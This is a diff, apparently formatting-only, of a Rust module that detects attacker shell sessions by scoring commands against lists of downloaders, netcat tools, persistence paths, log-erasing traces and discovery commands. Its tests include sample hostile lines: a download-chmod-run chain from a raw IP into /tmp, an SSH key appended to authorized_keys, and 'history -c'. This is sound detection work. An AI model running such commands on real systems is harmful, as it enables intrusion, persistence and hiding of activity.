@@ -50,13 +50,47 @@ pub static TABLE: LazyLock<Table> = LazyLock::new(|| {
 const DOWNLOAD: [&str; 6] = ["wget", "curl", "tftp", "ftpget", "lwp-download", "fetch"];
 const EXEC: [&str; 5] = ["sh", "bash", "perl", "python", "python3"];
 const DISCOVERY: [&str; 21] = [
-    "uname", "whoami", "id", "w", "lscpu", "free", "nproc", "top", "uptime", "ifconfig", "lspci",
-    "dmidecode", "nvidia-smi", "getconf", "df", "netstat", "ss", "ps", "who", "last", "which",
+    "uname",
+    "whoami",
+    "id",
+    "w",
+    "lscpu",
+    "free",
+    "nproc",
+    "top",
+    "uptime",
+    "ifconfig",
+    "lspci",
+    "dmidecode",
+    "nvidia-smi",
+    "getconf",
+    "df",
+    "netstat",
+    "ss",
+    "ps",
+    "who",
+    "last",
+    "which",
 ];
 const PERSISTENCE: [&str; 8] = [
-    "crontab", "chpasswd", "passwd", "useradd", "adduser", "usermod", "hive-passwd", "ssh-keygen",
+    "crontab",
+    "chpasswd",
+    "passwd",
+    "useradd",
+    "adduser",
+    "usermod",
+    "hive-passwd",
+    "ssh-keygen",
 ];
-const EVASION: [&str; 7] = ["history", "chattr", "unset", "setenforce", "iptables", "ufw", "shred"];
+const EVASION: [&str; 7] = [
+    "history",
+    "chattr",
+    "unset",
+    "setenforce",
+    "iptables",
+    "ufw",
+    "shred",
+];
 const IMPACT: [&str; 5] = ["pkill", "killall", "reboot", "cfgmtd", "xmrig"];
 const NETCAT: [&str; 4] = ["nc", "ncat", "netcat", "socat"];
 /// Pipeline filters: they do not advance the windows.
@@ -99,12 +133,20 @@ fn is_raw_ip_url(arg: &str) -> bool {
 
 fn is_octal_exec(mode: &str) -> bool {
     let digits = mode.trim_start_matches('0');
-    let owner = if digits.len() == 4 { digits.get(1..2) } else if digits.len() == 3 { digits.get(..1) } else { None };
+    let owner = if digits.len() == 4 {
+        digits.get(1..2)
+    } else if digits.len() == 3 {
+        digits.get(..1)
+    } else {
+        None
+    };
     mode.chars().all(|c| ('0'..='7').contains(&c)) && owner.is_some_and(|o| o == "7" || o == "5")
 }
 
 fn in_tmp(path: &str) -> bool {
-    ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|d| path.starts_with(d))
+    ["/tmp/", "/var/tmp/", "/dev/shm/"]
+        .iter()
+        .any(|d| path.starts_with(d))
 }
 
 fn signals(p: &Program) -> Signals {
@@ -116,10 +158,14 @@ fn signals(p: &Program) -> Signals {
         netcat: NETCAT.contains(&name),
         ..Signals::default()
     };
-    s.download = DOWNLOAD.contains(&name) || (name == "scp" && p.args.iter().any(|a| a == "-t")) || has("/dev/tcp/");
+    s.download = DOWNLOAD.contains(&name)
+        || (name == "scp" && p.args.iter().any(|a| a == "-t"))
+        || has("/dev/tcp/");
     s.raw_ip_download = s.download && p.args.iter().any(|a| is_raw_ip_url(a));
     s.make_executable = name == "chmod"
-        && p.args.iter().any(|a| (a.contains("+x") && !a.starts_with("-x")) || is_octal_exec(a));
+        && p.args
+            .iter()
+            .any(|a| (a.contains("+x") && !a.starts_with("-x")) || is_octal_exec(a));
     let local = p.path.starts_with("./") || in_tmp(&p.path);
     s.exec = EXEC.contains(&name) || local;
     s.decode = (name == "base64" && p.args.iter().any(|a| a == "-d" || a == "--decode"))
@@ -130,11 +176,21 @@ fn signals(p: &Program) -> Signals {
     s.discovery = if DISCOVERY.contains(&name) {
         Some(name.to_owned())
     } else {
-        ["/proc/cpuinfo", "/proc/meminfo", "/proc/version", "/etc/issue", "/etc/os-release", "/etc/passwd"]
-            .iter()
-            .find(|f| has(f))
-            .map(|f| (*f).to_owned())
-            .or_else(|| (name == "ip" && p.args.first().is_some_and(|a| a == "a" || a == "addr")).then(|| "ip addr".to_owned()))
+        [
+            "/proc/cpuinfo",
+            "/proc/meminfo",
+            "/proc/version",
+            "/etc/issue",
+            "/etc/os-release",
+            "/etc/passwd",
+        ]
+        .iter()
+        .find(|f| has(f))
+        .map(|f| (*f).to_owned())
+        .or_else(|| {
+            (name == "ip" && p.args.first().is_some_and(|a| a == "a" || a == "addr"))
+                .then(|| "ip addr".to_owned())
+        })
     };
     let crontab_list = name == "crontab" && p.args.iter().any(|a| a == "-l");
     if crontab_list {
@@ -142,14 +198,31 @@ fn signals(p: &Program) -> Signals {
     }
     s.persistence = !crontab_list
         && (PERSISTENCE.contains(&name)
-            || ["authorized_keys", ".ssh", "rc.local", "/etc/init.d", "/etc/cron", ".bashrc", ".profile"]
-                .iter()
-                .any(|n| has(n))
+            || [
+                "authorized_keys",
+                ".ssh",
+                "rc.local",
+                "/etc/init.d",
+                "/etc/cron",
+                ".bashrc",
+                ".profile",
+            ]
+            .iter()
+            .any(|n| has(n))
             || (name == "systemctl" && p.args.first().is_some_and(|a| a == "enable")));
     s.evasion = EVASION.contains(&name)
-        || ["HISTFILE", "HISTSIZE=0", ".bash_history", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/secure", "/var/log/auth"]
-            .iter()
-            .any(|n| has(n) || p.path.contains(n))
+        || [
+            "HISTFILE",
+            "HISTSIZE=0",
+            ".bash_history",
+            "/var/log/wtmp",
+            "/var/log/btmp",
+            "/var/log/lastlog",
+            "/var/log/secure",
+            "/var/log/auth",
+        ]
+        .iter()
+        .any(|n| has(n) || p.path.contains(n))
         || (name == "rm" && has("/var/log"));
     s.impact = IMPACT.contains(&name)
         || (name == "kill" && p.args.iter().any(|a| a == "-9"))
@@ -171,32 +244,77 @@ pub fn score(recent: &VecDeque<Program>, program: &Program, out: &mut Vec<Findin
     {
         out.push(Finding::new("attack", 85, format!("download then execute (`{name}` after a download), as in attacker sessions (Execution)")));
     }
-    if now.exec && !now.make_executable && back(|s| s.make_executable).is_some_and(|d| d < DROP_EXEC) {
-        out.push(Finding::new("attack", 80, format!("a file made executable, then run (`{}`), as in attacker sessions (Execution)", program.path)));
+    if now.exec
+        && !now.make_executable
+        && back(|s| s.make_executable).is_some_and(|d| d < DROP_EXEC)
+    {
+        out.push(Finding::new(
+            "attack",
+            80,
+            format!(
+                "a file made executable, then run (`{}`), as in attacker sessions (Execution)",
+                program.path
+            ),
+        ));
     }
     if now.exec && back(|s| s.decode).is_some_and(|d| d < DROP_EXEC) {
-        out.push(Finding::new("attack", 80, "decoded data run as a program, as in attacker sessions (Execution)"));
+        out.push(Finding::new(
+            "attack",
+            80,
+            "decoded data run as a program, as in attacker sessions (Execution)",
+        ));
     }
     if now.raw_ip_download {
-        out.push(Finding::new("attack", 60, format!("`{name}` downloads from a raw IP address, as in attacker sessions")));
+        out.push(Finding::new(
+            "attack",
+            60,
+            format!("`{name}` downloads from a raw IP address, as in attacker sessions"),
+        ));
     }
     if now.hex_echo {
-        out.push(Finding::new("attack", 70, "binary written with hex escapes (`echo -e \\x..`), as in attacker droppers"));
+        out.push(Finding::new(
+            "attack",
+            70,
+            "binary written with hex escapes (`echo -e \\x..`), as in attacker droppers",
+        ));
     }
     if now.exec_from_tmp {
-        out.push(Finding::new("attack", 60, format!("runs `{}` from a temporary or hidden directory", program.path)));
+        out.push(Finding::new(
+            "attack",
+            60,
+            format!(
+                "runs `{}` from a temporary or hidden directory",
+                program.path
+            ),
+        ));
     }
     if now.netcat {
-        out.push(Finding::new("attack", 50, format!("`{name}` (raw network connections), as in attacker sessions")));
+        out.push(Finding::new(
+            "attack",
+            50,
+            format!("`{name}` (raw network connections), as in attacker sessions"),
+        ));
     }
     if now.persistence {
-        out.push(Finding::new("attack", 75, format!("`{name}` changes accounts, keys or start-up jobs (Persistence)")));
+        out.push(Finding::new(
+            "attack",
+            75,
+            format!("`{name}` changes accounts, keys or start-up jobs (Persistence)"),
+        ));
     }
     if now.evasion {
-        out.push(Finding::new("attack", 75, format!("`{name}` hides activity or weakens defences (Defense Evasion)")));
+        out.push(Finding::new(
+            "attack",
+            75,
+            format!("`{name}` hides activity or weakens defences (Defense Evasion)"),
+        ));
     }
     if now.impact {
-        out.push(Finding::new("attack", 60, format!("`{name}` stops processes or the system (Impact)")));
+        out.push(Finding::new(
+            "attack",
+            60,
+            format!("`{name}` stops processes or the system (Impact)"),
+        ));
     }
     // Discovery: distinct signals in the last few programs, filters not counted.
     let mut seen: BTreeSet<String> = now.discovery.iter().cloned().collect();
@@ -212,7 +330,14 @@ pub fn score(recent: &VecDeque<Program>, program: &Program, out: &mut Vec<Findin
     }
     if now.discovery.is_some() && seen.len() >= DISCOVERY_BURST {
         let list: Vec<&str> = seen.iter().map(String::as_str).collect();
-        out.push(Finding::new("attack", 55, format!("discovery burst ({}), as in attacker sessions (Discovery)", list.join(", "))));
+        out.push(Finding::new(
+            "attack",
+            55,
+            format!(
+                "discovery burst ({}), as in attacker sessions (Discovery)",
+                list.join(", ")
+            ),
+        ));
     }
     // The learnt table: distinct typical programs in the window.
     let table = &*TABLE;
@@ -244,29 +369,52 @@ pub fn score(recent: &VecDeque<Program>, program: &Program, out: &mut Vec<Findin
         out.push(Finding::new(
             "attack",
             20,
-            format!("a run of programs typical of attacker sessions ({})", tactics.join(", ")),
+            format!(
+                "a run of programs typical of attacker sessions ({})",
+                tactics.join(", ")
+            ),
         ));
     }
 }
 
 /// Places whose change persists access.
 const PERSISTENT_PLACES: [&str; 7] = [
-    "authorized_keys", ".ssh/", "rc.local", "/etc/init.d", "/etc/cron", ".bashrc", ".profile",
+    "authorized_keys",
+    ".ssh/",
+    "rc.local",
+    "/etc/init.d",
+    "/etc/cron",
+    ".bashrc",
+    ".profile",
 ];
 /// Traces attackers erase.
 const TRACES: [&str; 8] = [
-    "HISTFILE", "HISTSIZE=0", ".bash_history", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog",
-    "/var/log/secure", "/var/log/auth",
+    "HISTFILE",
+    "HISTSIZE=0",
+    ".bash_history",
+    "/var/log/wtmp",
+    "/var/log/btmp",
+    "/var/log/lastlog",
+    "/var/log/secure",
+    "/var/log/auth",
 ];
 
 /// Scores a whole command line for what its programs' arguments do not show: redirections
 /// into persistent places or over traces (`echo key >> ~/.ssh/authorized_keys`).
 pub fn score_line(line: &str, out: &mut Vec<Finding>) {
     if let Some(place) = PERSISTENT_PLACES.iter().find(|p| line.contains(*p)) {
-        out.push(Finding::new("attack", 75, format!("writes to `{place}` (Persistence)")));
+        out.push(Finding::new(
+            "attack",
+            75,
+            format!("writes to `{place}` (Persistence)"),
+        ));
     }
     if let Some(trace) = TRACES.iter().find(|t| line.contains(*t)) {
-        out.push(Finding::new("attack", 75, format!("touches `{trace}` (Defense Evasion)")));
+        out.push(Finding::new(
+            "attack",
+            75,
+            format!("touches `{trace}` (Defense Evasion)"),
+        ));
     }
 }
 
@@ -304,15 +452,35 @@ mod tests {
     fn attacker_patterns_are_found() {
         let out = run(&["cd /tmp && wget http://203.0.113.9/x && chmod +x x && ./x"]);
         let texts: Vec<&str> = out.iter().map(|f| f.text.as_str()).collect();
-        assert!(texts.iter().any(|t| t.starts_with("download then execute")), "{texts:?}");
-        assert!(texts.iter().any(|t| t.contains("raw IP address")), "{texts:?}");
-        assert!(texts.iter().any(|t| t.starts_with("a file made executable, then run (`./x`)")), "{texts:?}");
+        assert!(
+            texts.iter().any(|t| t.starts_with("download then execute")),
+            "{texts:?}"
+        );
+        assert!(
+            texts.iter().any(|t| t.contains("raw IP address")),
+            "{texts:?}"
+        );
+        assert!(
+            texts
+                .iter()
+                .any(|t| t.starts_with("a file made executable, then run (`./x`)")),
+            "{texts:?}"
+        );
         let out = run(&["uname -a", "cat /proc/cpuinfo | grep name", "free -m", "w"]);
-        assert!(out.iter().any(|f| f.text.starts_with("discovery burst")), "{out:?}");
+        assert!(
+            out.iter().any(|f| f.text.starts_with("discovery burst")),
+            "{out:?}"
+        );
         let out = run(&["echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"]);
-        assert!(out.iter().any(|f| f.text.contains("Persistence")), "{out:?}");
+        assert!(
+            out.iter().any(|f| f.text.contains("Persistence")),
+            "{out:?}"
+        );
         let out = run(&["history -c"]);
-        assert!(out.iter().any(|f| f.text.contains("Defense Evasion")), "{out:?}");
+        assert!(
+            out.iter().any(|f| f.text.contains("Defense Evasion")),
+            "{out:?}"
+        );
     }
 
     #[test]
